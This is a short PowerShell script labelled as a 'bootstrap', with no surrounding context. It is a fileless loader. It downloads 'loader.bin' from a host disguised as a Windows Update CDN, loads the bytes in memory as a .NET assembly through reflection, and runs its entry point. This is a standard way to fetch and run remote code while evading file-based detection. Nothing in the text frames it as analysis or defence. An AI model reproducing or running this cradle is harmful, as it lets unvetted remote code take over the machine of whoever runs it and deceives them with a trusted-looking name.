# bootstrap 2172 v3
$b = (New-Object Net.WebClient).DownloadData('http://dl.winupdate-cdn.example/loader.bin')
$a = [System.Reflection.Assembly]::Load($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
